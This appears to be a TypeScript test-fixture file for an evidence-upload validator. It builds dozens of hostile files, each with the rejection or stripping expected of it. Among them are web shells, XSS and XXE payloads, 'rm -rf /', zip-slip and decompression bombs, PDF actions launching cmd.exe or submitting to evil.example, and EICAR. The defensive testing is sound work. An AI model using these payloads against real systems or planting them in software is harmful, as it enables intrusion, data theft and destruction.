import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { jpegWith, pngWith } from './photos'
import { EVIDENCE_PDF } from './repairs'

/** What becomes of a file: refused with this status, or kept without the words named. */
export type HostileFile = { name: string; bytes: Buffer } & ({ refused: 413 | 415 | 422; says?: RegExp } | { keptWithout: string })

const text = (value: string) => Buffer.from(value, 'latin1')
const BODY = EVIDENCE_PDF.toString('latin1')
/** A whole PDF with one more object in it. */
export const pdfWith = (object: string): Buffer => text(BODY.replace('xref\n', `3 0 obj\n${object}\nendobj\nxref\n`))
const streamPdf = (head: string, body: Buffer): Buffer => Buffer.concat([text(BODY.slice(0, BODY.indexOf('xref\n'))), text(`3 0 obj\n<< ${head} /Length ${body.length} >>\nstream\n`), body, text(`\nendstream\nendobj\n${BODY.slice(BODY.indexOf('xref\n'))}`)])
const zip = (name: string, body: string): Buffer => {
  const packed = deflateRawSync(Buffer.from(body))
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(packed.length, 18)
  head.writeUInt32LE(body.length, 22)
  head.writeUInt16LE(name.length, 26)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  return Buffer.concat([head, text(name), packed, end])
}
const pngOf = (width: number, height: number): Buffer => {
  const png = pngWith({})
  png.writeUInt32BE(width, 16)
  png.writeUInt32BE(height, 20)
  return png
}
const jpegOf = (width: number, height: number): Buffer => {
  const jpeg = jpegWith({})
  const at = jpeg.indexOf(Buffer.from([0xff, 0xc0]))
  jpeg.writeUInt16BE(height, at + 5)
  jpeg.writeUInt16BE(width, at + 7)
  return jpeg
}
const WHOLE_PNG = pngWith({})
const WHOLE_JPEG = jpegWith({})
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
const SCRIPT = '<script>alert(document.cookie)</script>'

const OTHER_FORMATS: HostileFile[] = (
  [
    ['empty', Buffer.alloc(0), 422],
    ['one zero byte', Buffer.alloc(1), 415],
    ['only spaces', text('   \n\n'), 415],
    ['SVG with a script', text(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`), 415],
    ['SVG behind an XML head', text(`<?xml version="1.0"?><!DOCTYPE svg><svg>${SCRIPT}</svg>`), 415],
    ['XML with an entity bomb', text('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><lolz>&b;</lolz>'), 415],
    ['XML that reads a file', text('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'), 415],
    ['HTML called PDF', text(`<html><body>${SCRIPT}</body></html>`), 415],
    ['HTML behind a byte order mark', text(`\xef\xbb\xbf<!doctype html>${SCRIPT}`), 415],
    ['Windows program', text('MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode'), 415],
    ['Linux program', text('\x7fELF\x02\x01\x01\x00'), 415],
    ['shell script', text('#!/bin/sh\nrm -rf /\n'), 415],
    ['PHP', text('<?php system($_GET["c"]); ?>'), 415],
    ['batch file', text('@echo off\r\ndel /q *.*\r\n'), 415],
    ['Word with macros (OLE)', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), text('VBA')]), 415],
    ['Word (zip)', zip('word/document.xml', '<w:document/>'), 415],
    ['zip with a path that climbs', zip('../../../etc/cron.d/x', '* * * * * root sh'), 415],
    ['zip bomb', zip('bomb.txt', '0'.repeat(5_000_000)), 415],
    ['gzip bomb', gzipSync(Buffer.alloc(20_000_000)), 415],
    ['RAR', text('Rar!\x1a\x07\x01\x00'), 415],
    ['7z', Buffer.from('377abcaf271c', 'hex'), 415],
    ['GIF', text('GIF89a\x01\x00\x01\x00\x00\x00\x00;'), 415],
    ['GIF that is JavaScript', text('GIF89a/*\x00\x00*/=1;alert(1)//;'), 415],
    ['WebP', text('RIFF\x1a\x00\x00\x00WEBPVP8 '), 415],
    ['BMP', text('BM\x3a\x00\x00\x00'), 415],
    ['TIFF', text('II*\x00\x08\x00\x00\x00'), 415],
    ['HEIC', text('\x00\x00\x00\x18ftypheic'), 415],
    ['MP4', text('\x00\x00\x00\x18ftypmp42'), 415],
    ['PostScript', text('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'), 415],
    ['RTF with an object', text('{\\rtf1{\\object\\objdata 0105}}'), 415],
    ['Windows shortcut', Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), 415],
    ['Java archive', zip('META-INF/MANIFEST.MF', 'Main-Class: X'), 415],
    ['PDF behind junk', Buffer.concat([text('junk\n'), EVIDENCE_PDF]), 415],
  ] as const
).map(([name, bytes, refused]) => ({ name, bytes, refused }))

const PDFS: HostileFile[] = (
  [
    ['PDF with JavaScript', pdfWith('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'), /脚本/],
    ['PDF with JavaScript spelled in hex', pdfWith('<< /S /J#61vaScr#69pt /#4a#53 (x) >>'), /脚本/],
    ['PDF with JavaScript in a compressed object stream', streamPdf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(text('3 0 << /S /JavaScript /JS (x) >>'))), /脚本/],
    ['PDF with JavaScript in a plain object stream', streamPdf('/Type /ObjStm /N 1 /First 4', text('3 0 << /S /JavaScript /JS (x) >>')), /脚本/],
    ['PDF that launches a program', pdfWith('<< /S /Launch /F (cmd.exe) >>'), /启动/],
    ['PDF with an attachment', pdfWith('<< /Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >> >>'), /夹带/],
    ['PDF with a file annotation', pdfWith('<< /Subtype /FileAttachment /FS 4 0 R >>'), /夹带/],
    ['PDF with automatic actions', pdfWith('<< /AA << /O 4 0 R >> >>'), /自动/],
    ['PDF with a form that sends', pdfWith('<< /S /SubmitForm /F (http://evil.example) >>'), /发送/],
    ['PDF with an XFA form', pdfWith('<< /AcroForm << /XFA [(x) 4 0 R] >> >>'), /表单/],
    ['PDF that opens another', pdfWith('<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) >>'), /其他文件/],
    ['PDF with media', pdfWith('<< /Subtype /RichMedia >>'), /多媒体/],
    ['PDF with a password', text(BODY.replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 5 0 R')), /加密/],
    ['PDF with a bomb in an object stream', streamPdf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(60_000_000))), /过大/],
    ['PDF with a broken object stream', streamPdf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', text('not zlib at all')), /打不开/],
    ['PDF cut short', EVIDENCE_PDF.subarray(0, 120), /不完整/],
    ['PDF without its table', text(BODY.replace(/startxref\n\d+\n/, '')), /不完整/],
    ['PDF without a root', text(BODY.replace('/Root 1 0 R', '')), /不完整/],
    ['PDF that is only a head and an end', text('%PDF-1.7\n%%EOF\n'), /不完整/],
    ['PDF of no known version', text(BODY.replace('%PDF-1.7', '%PDF-9.9')), /开头/],
    ['PDF and zip in one (zip behind)', Buffer.concat([EVIDENCE_PDF, zip('evil.jar', 'x')]), /结尾之后/],
    ['PDF and HTML in one (HTML behind)', Buffer.concat([EVIDENCE_PDF, text(SCRIPT)]), /结尾之后/],
    ['PDF and HTML in one (HTML in a comment)', text(BODY.replace('\n', `\n%<html>${SCRIPT}</html>\n`)), /别的格式/],
    ['PDF and zip in one (zip inside)', pdfWith(`(${zip('x', 'y').toString('latin1').replaceAll(/[()\\]/g, '')})`), /别的格式/],
    ['PDF with a stream that never ends', text(BODY.replace('xref\n', '3 0 obj\n<< /Length 9 >>\nstream\nabc\nxref\n')), /不完整/],
    ['EICAR alone in a PDF', pdfWith(`(${EICAR.replaceAll(/[()\\]/g, (c) => c)})`), /病毒/],
  ] as const
).map(([name, bytes, says]) => ({ name, bytes, refused: 422, says }))

const PICTURES: HostileFile[] = [
  { name: 'PNG of 65 535 × 65 535', bytes: pngOf(65_535, 65_535), refused: 422, says: /尺寸/ },
  { name: 'PNG of 2 147 483 647 × 1', bytes: pngOf(2_147_483_647, 1), refused: 422, says: /尺寸/ },
  { name: 'PNG of no width', bytes: pngOf(0, 32), refused: 422 },
  { name: 'JPEG of 65 000 × 65 000', bytes: jpegOf(65_000, 65_000), refused: 422, says: /尺寸/ },
  { name: 'JPEG of no height', bytes: jpegOf(32, 0), refused: 422 },
  { name: 'PNG cut short', bytes: WHOLE_PNG.subarray(0, WHOLE_PNG.length - 20), refused: 422 },
  { name: 'PNG of a head only', bytes: WHOLE_PNG.subarray(0, 8), refused: 422 },
  { name: 'JPEG cut short', bytes: WHOLE_JPEG.subarray(0, WHOLE_JPEG.length - 4), refused: 422 },
  { name: 'JPEG of a head only', bytes: Buffer.from([0xff, 0xd8, 0xff]), refused: 422 },
  { name: 'JPEG head before HTML', bytes: Buffer.concat([Buffer.from([0xff, 0xd8]), text(SCRIPT)]), refused: 422 },
  { name: 'PNG head before PHP', bytes: Buffer.concat([WHOLE_PNG.subarray(0, 8), text('<?php eval($_POST[1]); ?>')]), refused: 422 },
  { name: 'JPEG whose EXIF knows the place', bytes: jpegWith({ exif: 'GPS 25.1N 118.5E' }), keptWithout: 'GPS' },
  { name: 'JPEG with a script behind it', bytes: Buffer.concat([WHOLE_JPEG, text(SCRIPT)]), keptWithout: '<script' },
  { name: 'JPEG with a zip behind it', bytes: Buffer.concat([WHOLE_JPEG, zip('x.exe', 'MZ')]), keptWithout: 'PK\x03\x04' },
  { name: 'PNG with a script in its texts', bytes: pngWith({ tEXt: `Comment\0${SCRIPT}` }), keptWithout: '<script' },
  { name: 'PNG with HTML behind it', bytes: Buffer.concat([WHOLE_PNG, text(`<html>${SCRIPT}`)]), keptWithout: '<script' },
  { name: 'PNG with EXIF', bytes: pngWith({ eXIf: 'GPS 25.1N' }), keptWithout: 'GPS' },
  { name: 'JPEG with EICAR behind it', bytes: Buffer.concat([WHOLE_JPEG, text(EICAR)]), refused: 422, says: /病毒/ },
  { name: 'PNG with EICAR in its texts', bytes: pngWith({ tEXt: EICAR }), refused: 422, says: /病毒/ },
  { name: '11 MB of PDF', bytes: Buffer.concat([EVIDENCE_PDF, Buffer.alloc(11 * 1024 * 1024, 32)]), refused: 413 },
]

export const HOSTILE_FILES: readonly HostileFile[] = [...OTHER_FORMATS, ...PDFS, ...PICTURES]
